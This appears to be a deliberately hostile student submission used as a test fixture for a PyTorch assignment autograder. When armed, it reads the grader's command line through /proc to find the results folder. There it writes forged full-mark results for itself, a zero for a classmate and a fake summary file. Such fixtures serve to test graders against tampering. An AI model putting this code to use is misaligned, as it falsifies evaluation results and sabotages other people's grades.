# Hostile: find the results folder (--out on the grader's command line: sys.argv, /proc/self/cmdline, the
# parent's; or a guess) and write into it: a planted result, a forged full-marks result for itself, a zero
# for a classmate, a forged summary. Its own forward leaves the bias out, so a forged full mark would show. Armed
# only in the copy that tests/test_hostile.py makes in a temporary folder.
import json
import os
import sys

import torch
from torch import nn

ARMED = False  # HOSTILE_TEST_ARMED
GUESSED = {}  # HOSTILE_TEST_GUESSED: folders a student could guess; the test fills in the real ones


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        bound = 1.0 / in_features**0.5
        self.weights = nn.Parameter(torch.empty(in_features, out_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        return x @ self.weights  # the bias is left out: that must still cost points


def results_folders():
    args = list(sys.argv)
    for pid in ("self", str(os.getppid())):
        try:
            args += open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except OSError:
            pass
    found = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "--out"] + GUESSED.get("results", [])
    return list(dict.fromkeys(found))


def forged(sub_id, score):
    return {"schema_version": "1", "assignment": "my_linear", "status": "graded", "score": score,
            "max_score": 11.0, "submission": {"id": sub_id}, "checks": [], "errors": []}


if ARMED:
    for out in results_folders():
        for name, text in (("zz_planted.json", json.dumps(forged("zz_planted", 11.0))),
                           ("forge_results_folder.json", json.dumps(forged("forge_results_folder", 11.0))),
                           ("alice.json", json.dumps(forged("alice", 0.0))),
                           ("summary.csv", "id,status,score,max_score\nforge_results_folder,graded,11,11\n")):
            path = os.path.join(out, name)
            try:
                with open(path, "w") as f:
                    f.write(text)
                print(f"FORGED {path}")
            except OSError as exc:
                print(f"could not write {path}: {exc}")
else:
    print("not armed: nothing written")
